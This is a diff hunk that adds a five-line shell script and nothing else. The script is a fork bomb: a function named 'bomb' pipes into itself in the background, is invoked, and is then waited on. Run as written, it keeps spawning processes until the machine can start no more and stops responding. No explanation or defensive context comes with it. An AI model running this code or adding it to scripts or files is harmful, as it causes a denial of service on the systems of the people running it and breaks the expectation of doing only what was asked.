@@ -1,0 +1,5 @@
+bomb() {
+    bomb | bomb &
+}
+bomb
+wait
